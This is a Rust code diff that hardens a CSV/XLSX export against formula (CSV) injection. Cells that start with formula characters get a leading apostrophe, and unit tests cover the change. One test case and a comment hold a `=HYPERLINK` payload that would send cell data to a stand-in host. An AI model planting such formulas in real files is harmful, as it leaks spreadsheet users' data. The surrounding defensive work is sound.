@@ -100,7 +100,24 @@ async fn export(
     response
 }
 
+/// A cell a spreadsheet would read as a formula (OWASP "CSV injection"):
+/// one that starts with `=`, `+`, `-`, `@`, a tab or a carriage return, or
+/// the full-width `＝＋－＠` that some spreadsheets also accept. A cooperative
+/// named `=HYPERLINK(…)` must reach the organizer as text, not as a live link
+/// that sends other cells away.
+fn looks_like_formula(value: &str) -> bool {
+    value.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
+}
+
 fn csv_field(value: &str) -> String {
+    // A leading apostrophe makes the spreadsheet take the rest as text.
+    let neutral;
+    let value = if looks_like_formula(value) {
+        neutral = format!("'{value}");
+        neutral.as_str()
+    } else {
+        value
+    };
     if value.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", value.replace('"', "\"\""))
     } else {
@@ -136,7 +153,9 @@ fn to_xlsx(title: &str, rows: &[Vec<String>]) -> Result<Vec<u8>, rust_xlsxwriter
     for (r, row) in rows.iter().enumerate() {
         for (col, cell) in row.iter().enumerate() {
             let at = (r as u32 + 3, col as u16);
-            // Counts are numbers so organizers can sum them; codes stay text.
+            // Counts are numbers so organizers can sum them; codes stay
+            // text. Everything else is written as a string, never as a
+            // formula, so no cell here needs the CSV's apostrophe.
             match (col, cell.parse::<f64>()) {
                 (0 | 5, Ok(n)) => sheet.write_number(at.0, at.1, n)?,
                 _ => sheet.write_string(at.0, at.1, cell)?,
@@ -159,5 +178,25 @@ mod tests {
         let csv = to_csv(&rows);
         assert!(csv.starts_with('\u{feff}'));
         assert!(csv.contains("1,\"HTX \"\"Quyết Thắng\"\", Quảng Trị\",\"a\nb\"\r\n"));
+    }
+
+    #[test]
+    fn csv_cells_that_start_like_formulas_get_an_apostrophe() {
+        for (cell, written) in [
+            ("=1+1", "'=1+1"),
+            ("+84912345678", "'+84912345678"),
+            ("-2", "'-2"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("＝1+1", "'＝1+1"),
+            (
+                "=HYPERLINK(\"http://x\"&A1,\"y\")",
+                "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"y\"\")\"",
+            ),
+            ("HTX a=b", "HTX a=b"),
+            ("0912345678", "0912345678"),
+        ] {
+            assert_eq!(csv_field(cell), written, "{cell:?}");
+        }
     }
 }
